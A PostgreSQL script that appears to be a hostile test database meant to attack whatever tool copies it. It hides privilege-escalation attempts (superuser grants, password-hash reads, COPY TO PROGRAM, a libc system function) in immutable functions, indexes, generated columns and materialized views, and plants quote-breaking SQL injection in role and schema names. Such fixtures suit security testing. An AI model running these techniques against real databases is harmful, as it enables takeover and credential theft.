-- A source whose owner wants the machine that copies it. Dormant in its own database.
CREATE FUNCTION public.attack() RETURNS text LANGUAGE plpgsql AS $f$
DECLARE
  attempt text;
  outcome text := '';
BEGIN
  IF current_database() <> 'victim' THEN RETURN 'dormant'; END IF;
  FOREACH attempt IN ARRAY ARRAY[
    'RESET ROLE', 'RESET SESSION AUTHORIZATION',
    'COPY (SELECT 1) TO PROGRAM ''touch MARKER''',
    'COPY (SELECT 1) TO ''MARKER''',
    'SET SESSION AUTHORIZATION postgres', 'SET ROLE postgres',
    'ALTER ROLE app SUPERUSER', 'CREATE ROLE thief SUPERUSER LOGIN',
    'SELECT pg_read_file(''PG_VERSION'')', 'SELECT rolpassword FROM pg_authid',
    'ALTER SYSTEM SET archive_command = ''touch MARKER''',
    'CREATE EXTENSION dblink SCHEMA public', 'CREATE EXTENSION file_fdw SCHEMA public',
    'CREATE FUNCTION public.c() RETURNS int LANGUAGE c AS ''libc.so.6'', ''system'''
  ] LOOP
    BEGIN
      EXECUTE attempt;
      outcome := concat(outcome, ' DONE(', attempt, ')');
    EXCEPTION WHEN OTHERS THEN
      outcome := concat(outcome, ' ', SQLSTATE);
    END;
  END LOOP;
  RETURN concat(session_user, '/', current_user, outcome);
END $f$;
CREATE FUNCTION public.attack_definer() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN RETURN public.attack(); END';
-- Says it is immutable, so that an index and a generated column take it.
CREATE FUNCTION public.innocent(id int) RETURNS text LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN public.attack(); END';
CREATE FUNCTION public.harmless(id int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM public.attack_definer(); RETURN true; END';

CREATE DOMAIN public.checked AS int CHECK (public.harmless(VALUE));
CREATE TABLE public.bait (
  id int PRIMARY KEY,
  generated text GENERATED ALWAYS AS (public.innocent(id)) STORED,
  by_domain public.checked,
  CHECK (public.harmless(id))
);
INSERT INTO public.bait (id, by_domain) VALUES (1, 1);
CREATE INDEX by_attack ON public.bait (public.innocent(id));
CREATE STATISTICS public.bait_stats ON id, by_domain FROM public.bait;
CREATE MATERIALIZED VIEW public.loot AS SELECT public.attack() AS invoker, public.attack_definer() AS definer;

-- Names that try to leave their quotes in the superuser's statements.
CREATE ROLE "x""; ALTER ROLE app SUPERUSER; --" NOLOGIN;
CREATE ROLE "$do$; ALTER ROLE app SUPERUSER; $do$" NOLOGIN;
CREATE TABLE public.guarded (id int);
CREATE POLICY named ON public.guarded TO "x""; ALTER ROLE app SUPERUSER; --", "$do$; ALTER ROLE app SUPERUSER; $do$" USING (true);
CREATE SCHEMA "x""; ALTER ROLE app SUPERUSER; --";
CREATE EXTENSION intarray SCHEMA "x""; ALTER ROLE app SUPERUSER; --";

-- A view that stands where a table stood, for whoever looks next; and rows that hide.
CREATE TABLE public.decoy (id int);
CREATE TABLE public.log (who text, super boolean);
CREATE FUNCTION public.spy() RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  INSERT INTO public.log SELECT session_user, rolsuper FROM pg_catalog.pg_roles WHERE rolname = session_user;
  RETURN true;
END $f$;
CREATE TABLE public.hidden (secret text);
INSERT INTO public.hidden VALUES ('a row that no policy shows');
CREATE MATERIALIZED VIEW public.shown AS SELECT secret FROM public.hidden;
ALTER TABLE public.hidden ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.hidden FORCE ROW LEVEL SECURITY;
